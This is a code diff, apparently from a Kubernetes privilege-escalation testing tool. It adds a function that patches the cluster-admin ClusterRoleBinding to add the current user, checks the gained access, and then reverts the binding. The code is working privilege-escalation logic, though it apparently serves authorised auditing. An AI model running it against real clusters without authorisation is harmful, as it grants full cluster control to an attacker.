@@ -57,6 +57,20 @@ async function changesRole(attempt: Attempt, { name, kind, namespace }: OwnRole)
   return everythingBy(attempt, namespace, does, change, () => field.must('PATCH', path, { rules: before.body.rules }));
 }
 
+/** Adds the attacker to the binding of cluster-admin. */
+export async function joinsClusterAdmins(attempt: Attempt): Promise<readonly Gain[]> {
+  const { field, me, send } = attempt;
+  const path = `${RBAC}/clusterrolebindings/cluster-admin`;
+  const { roleRef, subjects: before } = await field.must('GET', path);
+  const subjects = [...before, { apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: me.name }];
+  const join = async () =>
+    isDone(await send('PATCH', path, { subjects })) ||
+    isDone(await send('PUT', path, { metadata: { name: 'cluster-admin' }, roleRef, subjects }));
+  const does = 'adds oneself to the ClusterRoleBinding cluster-admin, which every cluster has';
+  const gain = await everythingBy(attempt, null, does, join, () => field.must('PATCH', path, { subjects: before }));
+  return gain === undefined ? [] : [gain];
+}
+
 /** Adds to view, edit and admin. Only who has one of them gains by it, and so do all others who have it. */
 export async function aggregates(attempt: Attempt): Promise<readonly Gain[]> {
   const { field, me, send } = attempt;
@@ -77,7 +91,7 @@ export async function aggregates(attempt: Attempt): Promise<readonly Gain[]> {
 }
 
 /**
- * Changes a role, which gives the attacker everything where the role is bound. On the whole cluster the change is taken
+ * Changes a role or its binding, which gives the attacker everything where the role is bound. On the whole cluster the change is taken
  * back when it is proved, because others have the role too.
  */
 async function everythingBy(
